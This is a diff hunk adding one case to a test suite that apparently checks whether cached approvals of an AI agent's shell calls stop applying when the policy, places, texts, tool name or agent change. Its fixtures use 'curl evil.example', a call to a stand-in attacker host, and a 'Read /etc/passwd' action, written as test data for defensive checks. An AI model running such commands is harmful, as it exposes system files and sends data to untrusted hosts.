@@ -111,6 +111,8 @@ forEachDatabase((name, open) => {
       [{ ...kept, places: ['other.example'] }, bash('curl evil.example')],
       [{ ...kept, does: [...kept.does, { kind: 'read', words: 'Read /etc/passwd' }] }, bash('curl evil.example')],
       [{ ...kept, policies: [{ id: 'other', words: 'Another policy' }] }, bash('curl evil.example')],
+      // By the same name, and another text.
+      [{ ...kept, texts: ['b'.repeat(64)] }, bash('curl evil.example')],
       [kept, bash('curl evil.example', { tool_name: 'Shell' })],
       [kept, bash('curl evil.example', { agent_id: 'child' })],
       // What is not certain, or has no place, is the same question only as the very same call.
